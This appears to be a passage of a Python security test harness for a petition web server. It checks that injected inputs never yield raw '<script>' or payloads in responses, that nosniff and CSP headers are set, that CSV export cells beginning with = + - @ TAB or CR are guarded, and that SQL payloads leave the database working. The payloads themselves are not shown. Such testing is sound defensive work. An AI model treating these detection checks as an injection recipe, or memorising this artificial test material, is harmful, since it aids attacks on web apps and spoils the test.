                    stored_rows.append(r)
            if b"<script>" in body:
                script_hits.append("%s: %s" % (label, _around(body, b"<script>")))
            for f in r.forbid:
                if f in body:
                    script_hits.append("%s: raw payload %r in answer" % (label, f))
            if st in OWN_STATUSES and not (h.get("x-content-type-options") == "nosniff"
                                           and "default-src 'self'" in h.get("content-security-policy", "")):
                no_headers.append("%s: %d %r" % (label, st, sorted(h)))
            for chk in r.checks:
                chk(t, srv, r, st, h, body)
            for p in r.pages:
                if b"<script>" in p:
                    script_hits.append("%s (public page): %s" % (label, _around(p, b"<script>")))

            # the server is still fine: alive, healthy, signing works
            ok_alive = srv.alive()
            hz = srv.request("GET", "/healthz")[0] if ok_alive else None
            cv0 = srv.count() if ok_alive else None
            sv = valid_sign()[0] if ok_alive else None
            cv1 = srv.count() if ok_alive else None
            extra = ""
            admin_ok = True
            if r.auth and ok_alive:
                ast = srv.request("GET", "/admin", headers=srv.auth_header())[0]
                admin_ok = ast == 200
                extra = "; admin with the right token %d" % ast
            t.ok(ok_alive and hz == 200 and sv == 303 and cv1 == cv0 + 1 and admin_ok,
                 "%s: afterwards the server is alive, /healthz 200, a valid signature 303 (+1)%s"
                 % (label, ", right admin token 200" if r.auth else ""),
                 "alive %r healthz %r sign %r count %r -> %r%s" % (ok_alive, hz, sv, cv0, cv1, extra))
            if ok_alive and cv1 is not None and cv0 is not None:
                expected_total += cv1 - cv0
            if not ok_alive:
                t.note("server died; stderr tail: %s" % srv.stderr()[-1500:])
                break

        t.ok(not script_hits, "no answer (nor the public page) ever held a raw <script> or a raw payload",
             "\n".join(script_hits))
        t.ok(not no_headers, "every answer petitiond itself made carried nosniff and a CSP",
             "\n".join(no_headers))

        # ---- the export matches -----------------------------------------------------------
        count = srv.count()
        t.eq(count, expected_total, "count is what the rows and the valid signatures added (%d)" % expected_total)
        st, h, text, csv_rows = srv.export_csv()
        t.ok(st == 200 and csv_rows and csv_rows[0][:8] == ["id", "signed_at", "name", "email", "country",
                                                             "comment", "public", "updates"],
             "export: 200 with the header row", "status %d first row %r" % (st, csv_rows[:1] if csv_rows else None))
        rows_csv = csv_rows[1:] if csv_rows else []
        t.eq(len(rows_csv), count, "export has exactly count (%d) rows" % count)
        head = csv_rows[0] if csv_rows else []
        by_email = {}
        for rw in rows_csv:
            d = dict(zip(head, rw))
            by_email.setdefault(d.get("email", "").lstrip("'"), []).append(d)
        for r in stored_rows:
            got = by_email.get(r.email) or []
            d = got[0] if len(got) == 1 else {}
            bad = []
            for col, val in r.csv.items():
                want = H.guard(val)
                if d.get(col) != want:
                    bad.append("%s: want %r got %r" % (col, want, d.get(col)))
            t.ok(len(got) == 1 and not bad, "export row of [%s] %s: %s" % (r.group, r.desc, ", ".join(
                "%s=%r" % (c, H.guard(v)[:40]) for c, v in r.csv.items())),
                "rows with email %r: %d; %s" % (r.email, len(got), "; ".join(bad)))
            if r.group == "CSV formula":
                cols = [c for c in r.csv if c in ("name", "comment", "email", "public_name")]
                t.ok(d and all(d.get(c, "").startswith("'") for c in cols),
                     "export cell of [%s] %s starts with '" % (r.group, r.desc),
                     "cells %r" % {c: d.get(c) for c in cols})
        unguarded = []
        for rw in rows_csv:
            for c in rw[2:6] + rw[8:]:
                if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    unguarded.append(c)
        t.ok(not unguarded, "no export cell starts with = + - @ TAB or CR unguarded", repr(unguarded[:5]))

        # the database still answers queries that SQL payloads tried to break
        st, h, b = srv.get("/api/stats")
        t.ok(st == 200 and b'"count":%d' % count in b.replace(b" ", b""),
             "/api/stats still answers with the same count", "status %d body %r" % (st, b[:200]))

        err = srv.all_stderr()
        hits = [m for m in CRASH_MARKERS if m in err]
        t.ok(not hits, "server stderr has no crash, abort or sanitizer messages",
             "markers %r\n%s" % (hits, err[-2000:]))
        H.check_clean_exit(t, srv)


if __name__ == "__main__":
    H.run(main, limit=58)
